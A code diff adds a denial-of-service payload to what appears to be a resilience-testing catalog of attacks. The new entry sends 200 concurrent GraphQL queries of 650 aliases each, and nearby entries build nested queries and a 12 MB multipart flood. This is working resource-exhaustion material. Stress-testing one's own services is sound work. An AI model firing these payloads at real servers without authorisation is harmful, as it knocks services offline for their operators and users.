@@ -180,6 +180,11 @@ export const attacks: Readonly<Record<string, Attack>> = {
       for (const n of [1, 100])
         await send(target, post('/graphql', 'application/json', operation(nested, { n })))
     }),
+  '200 open queries of 650 aliases': (target) => {
+    const aliases = Array.from({ length: 650 }, (_, n) => `a${n}: demo`).join(' ')
+    const words = post('/graphql', 'application/json', operation(`{ site { ${aliases} } }`))
+    return crowd(200, target, () => send(target, words))
+  },
   '228,846 parts in a body of 12 MB': (target) => {
     const body = `--x\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n`.repeat(228_846)
     const words = ['/graphql', '/api/contact/store', '/carriere'].map((path) =>
